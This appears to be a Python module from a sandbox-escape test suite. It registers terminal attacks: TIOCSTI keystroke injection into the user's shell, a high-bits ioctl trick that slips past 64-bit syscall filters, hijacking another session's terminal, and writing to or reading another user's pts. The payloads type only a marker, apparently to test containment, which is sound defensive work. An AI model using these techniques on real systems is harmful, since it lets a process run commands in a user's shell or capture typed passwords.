"""Typing into a terminal that is not ours, and reading what is typed into it."""

# Attacks are system calls.
# ruff: noqa: PTH110, PTH116

import array
import fcntl
import os
import termios
from pathlib import Path

from .registry import Stopped, World, attack, fact, root


def _type_into(fd: int, text: str) -> str:
    for character in text:
        fcntl.ioctl(fd, termios.TIOCSTI, character.encode())
    return "typed"


@attack(
    "tiocsti-controlling",
    kind="terminals",
    evidence="received",
    scene="terminal",
    needs=(fact("has_tiocsti"),),
)
def tiocsti_controlling(world: World) -> str:
    """The user's shell would run it after we have ended."""
    return _type_into(os.open("/dev/tty", os.O_RDWR), f"{world.id}\n")


@attack(
    "tiocsti-stdin",
    kind="terminals",
    evidence="received",
    scene="terminal",
    needs=(fact("has_tiocsti"),),
)
def tiocsti_stdin(world: World) -> str:
    return _type_into(0, f"{world.id}\n")


@attack(
    "tiocsti-stderr",
    kind="terminals",
    evidence="received",
    scene="terminal",
    needs=(fact("has_tiocsti"),),
)
def tiocsti_stderr(world: World) -> str:
    return _type_into(2, f"{world.id}\n")


@attack(
    "tiocsti-high-bits",
    kind="terminals",
    evidence="received",
    scene="terminal",
    needs=(fact("has_tiocsti"),),
)
def tiocsti_high_bits(world: World) -> None:
    """The kernel looks at 32 bits of the request; a filter that compares 64 does not know this number."""
    import ctypes

    number = 16 if os.uname().machine == "x86_64" else 29
    libc = ctypes.CDLL(None, use_errno=True)
    for character in f"{world.id}\n":
        request = ctypes.c_ulong(termios.TIOCSTI | 1 << 32)
        if libc.syscall(ctypes.c_long(number), ctypes.c_long(0), request, character.encode()):
            raise OSError(ctypes.get_errno(), "TIOCSTI")


@attack("controlling-terminal-open", kind="terminals", scene="terminal")
def controlling_terminal_open(_world: World) -> str:
    """/dev/tty leads past every redirection to where passwords are typed."""
    os.close(os.open("/dev/tty", os.O_RDWR))
    return "opened"


@attack("foreground-group", kind="terminals", scene="terminal")
def foreground_group(_world: World) -> str:
    """Who is in the foreground decides who gets Ctrl-C."""
    os.tcsetpgrp(0, os.tcgetpgrp(0))
    return "set"


@attack("controlling-terminal-take", kind="terminals", scene="terminal", needs=(root,))
def controlling_terminal_take(_world: World) -> str:
    """Root may steal another session's terminal."""
    if os.fork() == 0:
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 1)
        os._exit(0)
    if os.waitstatus_to_exitcode(os.wait()[1]):
        raise Stopped("not ours to take")
    return "taken"


@attack("pts-write", kind="terminals", evidence="received")
def pts_write(world: World) -> None:
    """Escape sequences on someone else's screen."""
    with Path(world.pts).open("w") as terminal:
        terminal.write(f"{world.id}\n")


@attack("pts-read", kind="terminals", evidence="claim")
def pts_read(world: World) -> str:
    os.close(os.open(world.pts, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK))
    if os.stat(world.pts).st_rdev != world.pts_device:
        raise Stopped("another terminal of the same name")
    if (
        os.stat(world.pts).st_ino != world.pts_inode
        or os.stat(world.pts).st_dev != world.pts_filesystem
    ):
        raise Stopped("another terminal of the same name")
    return "could read what the user types"


@attack("pts-through-victim", kind="terminals", evidence="received")
def pts_through_victim(world: World) -> None:
    with Path(f"/proc/{world.server_pid}/fd/{world.pts_fd}").open("w") as terminal:
        terminal.write(f"{world.id}\n")


@attack("pts-tiocsti", kind="terminals", evidence="received", needs=(root, fact("has_tiocsti")))
def pts_tiocsti(world: World) -> str:
    return _type_into(os.open(world.pts, os.O_RDWR | os.O_NOCTTY), f"{world.id}\n")


@attack(
    "console",
    kind="terminals",
    needs=(root, lambda _world: "" if os.access("/dev/console", os.W_OK) else "no console"),
)
def console(_world: World) -> str:
    os.close(os.open("/dev/console", os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK))
    return "opened"


@attack(
    "virtual-terminal",
    kind="terminals",
    needs=(root, lambda _world: "" if os.path.exists("/dev/tty1") else "no virtual terminals"),
)
def virtual_terminal(_world: World) -> str:
    """TIOCLINUX pastes into the console; what it shows can be read from /dev/vcs."""
    fd = os.open("/dev/tty1", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    fcntl.ioctl(fd, 0x541C, array.array("b", [6]))
    return "reached"
